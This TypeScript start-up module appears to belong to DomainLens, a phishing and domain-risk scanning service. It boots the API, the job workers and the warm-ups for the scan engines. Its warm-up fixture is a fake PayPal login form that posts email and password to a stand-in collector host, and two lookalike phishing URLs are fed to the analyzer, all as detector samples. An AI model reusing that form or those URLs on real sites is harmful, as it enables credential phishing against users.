import type { FastifyInstance } from "fastify";
import pino from "pino";
import { type Config, loadConfig } from "../config.js";
import { BrowserTaskError, findChromium } from "../engines/browser/index.js";
import { defaultAsnLookup } from "../engines/net/asn.js";
import { analyzeStatic } from "../engines/risk/static/index.js";
import { closeVision, warmVision } from "../engines/scan/vision/index.js";
import { buildApp } from "../http/app.js";
import { DEFAULT_ORG_CREDITS_MICROS } from "../platform/billing/prices.js";
import { JobRuntime } from "../platform/jobs/index.js";
import { microsToUsd } from "../platform/money.js";
import { analyzeSavedPage } from "./analyze.js";
import { closeServices, createLimiter, createServices, openConfiguredDatabase } from "./compose.js";

export interface RunningServer {
  config: Config;
  app: FastifyInstance | null;
  url: string | null;
  stop(): Promise<void>;
  /** Settles (logged as fatal) when the database can no longer be used; the process should then stop. */
  failed: Promise<Error>;
}

export class StartupError extends Error {
  override name = "StartupError";
}

function checkRole(config: Config): void {
  if (config.DATABASE_URL) return;
  if (config.ROLE === "worker") {
    throw new StartupError(
      "ROLE=worker needs DATABASE_URL: the embedded database (PGlite) can be opened by one process only, " +
        "so a separate worker would have to share the API's data directory. Use ROLE=all, or Postgres.",
    );
  }
  if (config.ROLE === "api") {
    throw new StartupError(
      "ROLE=api on the embedded database would leave queued jobs without a worker (PGlite is one process per " +
        "data directory). Use ROLE=all, or set DATABASE_URL and run ROLE=worker processes beside it.",
    );
  }
}

/** Starts the API and/or the job worker of this process, per ROLE. */
export async function serve(
  env: Record<string, string | undefined> = process.env,
  print: (line: string) => void = (line) => process.stdout.write(`${line}\n`),
): Promise<RunningServer> {
  const config = loadConfig(env);
  checkRole(config);
  const logger = pino({ level: config.LOG_LEVEL, redact: ["req.headers.authorization"] });
  const database = await openConfiguredDatabase(config);
  const services = createServices(config, database, createLimiter(config));
  services.usage.start();
  // Replays what a crashed process left in the charge journal before any new charge (a worker-only
  // process has no journal: compose.ts gives it direct debits).
  await services.charges.open();

  let app: FastifyInstance | null = null;
  let url: string | null = null;
  if (config.ROLE !== "worker") {
    // The domain-risk name tables (brand index, lure words, platform lists, English words) and the learned
    // name model load on first use, ~0.3 s of CPU: now, before listening, rather than inside the first
    // POST /v1/domain-risks.
    warmRiskEngine();
    app = await buildApp(services, { logger: logger.child({ component: "http" }) });
    try {
      url = await app.listen({ port: config.PORT, host: config.HOST });
    } catch (err) {
      await app.close().catch(() => {});
      await closeServices(services);
      const code = (err as { code?: unknown }).code;
      if (code === "EADDRINUSE" || code === "EADDRNOTAVAIL" || code === "EACCES") {
        throw new StartupError(listenProblem(String(code), config.HOST, config.PORT));
      }
      throw err;
    }
  }

  // After listening succeeded, so the key is never printed by a process that then fails to start.
  const created = await services.orgs.bootstrapDefault(microsToUsd(DEFAULT_ORG_CREDITS_MICROS));
  if (created) {
    print(
      [
        "",
        "  DomainLens created the organization 'default' with $10.00 of credits and this API key.",
        "  It is shown once and never again; store it now:",
        "",
        `    ${created.apiKey}`,
        "",
      ].join("\n"),
    );
  }

  // The hosting-network table takes a second or two to load: start now, in the background, so the
  // first analyses do not wait for it.
  void defaultAsnLookup()
    .load()
    .catch((err: unknown) => logger.warn({ err }, "IP-to-ASN table unavailable"));

  let runtime: JobRuntime | null = null;
  let webhookRuntime: JobRuntime | null = null;
  if (config.ROLE !== "api") {
    runtime = new JobRuntime({
      db: database.db,
      handlers: [
        services.classification.crawlHandler(),
        services.scans.jobHandler(),
        services.retention.jobHandler(),
      ],
      concurrency: config.WORKER_CONCURRENCY,
      logger: logger.child({ component: "jobs" }),
    });
    const local = runtime;
    services.classification.onCrawlQueued(() => local.notify());
    services.scans.onScanQueued(() => local.notify());
    runtime.start();
    // The hourly purge of scan artifacts past their organization's retention (docs/sharing.md): this
    // hour's run, unless another worker queued or ran it; each run queues the next.
    void services.retention
      .schedule()
      .then(() => local.notify())
      .catch((err: unknown) => logger.warn({ err }, "scheduling the artifact purge failed"));
    // Webhook deliveries wait on other servers, not on this machine: their own runtime and concurrency, so
    // that slow receivers never hold back scans and crawls (docs/webhooks.md).
    webhookRuntime = new JobRuntime({
      db: database.db,
      handlers: [services.webhooks.deliveryHandler()],
      concurrency: config.WEBHOOK_CONCURRENCY,
      logger: logger.child({ component: "webhooks" }),
    });
    const deliveries = webhookRuntime;
    services.webhooks.onDeliveryQueued(() => deliveries.notify());
    webhookRuntime.start();
    // The scan agents' tables, the vision agent's mark templates and its OCR worker load once, now, in the
    // background, instead of stalling the first scan (about 1–2 s of CPU).
    void warmScanEngines().catch((err: unknown) => logger.warn({ err }, "scan engines warm-up failed"));
    try {
      findChromium({ override: config.CHROMIUM_PATH });
      // Launched now, in the background: otherwise the first JavaScript-only site crawled after a start
      // pays Chromium's launch out of its render budget, may be classified from its empty shell, and that
      // record is then served for 30 days.
      void services.browser.warm().catch((err: unknown) => {
        // Stopped before Chromium was up: nothing to report.
        if (err instanceof BrowserTaskError && err.reason === "closed") return;
        logger.warn({ err }, "Chromium warm-up failed; it starts on first use");
      });
    } catch (err) {
      // Crawls still classify from plain HTTP; JavaScript-only sites then read as near-empty pages.
      logger.warn(
        { err },
        "Chromium not found: JavaScript-only sites will not be rendered, and URL scans fail (refunded)",
      );
    }
  }

  const purge = setInterval(() => {
    services.idempotency
      .purgeExpired()
      .catch((err: unknown) => logger.warn({ err }, "idempotency purge failed"));
  }, 3_600_000);
  purge.unref();

  logger.info(
    {
      url,
      role: config.ROLE,
      database: database.kind,
      location: database.location,
      ratelimit: services.limiter.backend,
    },
    "DomainLens started",
  );

  let stopping: Promise<void> | null = null;
  const stop = () => {
    stopping ??= (async () => {
      clearInterval(purge);
      if (app) await app.close();
      await Promise.all([runtime?.stop(10_000), webhookRuntime?.stop(10_000)]);
      await closeVision();
      await closeServices(services);
      logger.info("DomainLens stopped");
    })();
    return stopping;
  };
  const failed = database.failed.then((err) => {
    logger.fatal({ err }, "the database can no longer be used; DomainLens is stopping");
    return err;
  });
  return { config, app, url, stop, failed };
}

/** Why the server cannot listen, and what to do about it. */
export function listenProblem(code: string, host: string, port: number): string {
  if (code === "EADDRINUSE") {
    return `port ${port} on ${host} is already in use (another DomainLens or another program). Choose another with --port N or PORT=N, or PORT=0 for any free port.`;
  }
  if (code === "EACCES")
    return `no permission to listen on port ${port}: choose a port above 1023 with --port N or PORT=N.`;
  return `cannot listen on ${host}: it is not an address of this machine. Set --host or HOST (default 127.0.0.1).`;
}

/** A small sign-in page that touches every table the scan agents load on first use. */
const WARM_UP_PAGE = `<!DOCTYPE html><html lang="en"><head><title>Sign in to your account</title></head>
<body><h1>PayPal</h1><form action="https://collector.example.net/p.php" method="post">
<input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>
<p>Verify your account within 24 hours.</p></body></html>`;

/** A brand on a user site and a lure word: loads every table the static agent reads. */
function warmRiskEngine(): void {
  analyzeStatic("https://paypal-secure-login.example.com/");
  analyzeStatic("https://metamaskwalletsupport.webflow.io/");
}

async function warmScanEngines(): Promise<void> {
  await analyzeSavedPage({ url: "https://www.example.com/signin", html: WARM_UP_PAGE });
  await warmVision();
}
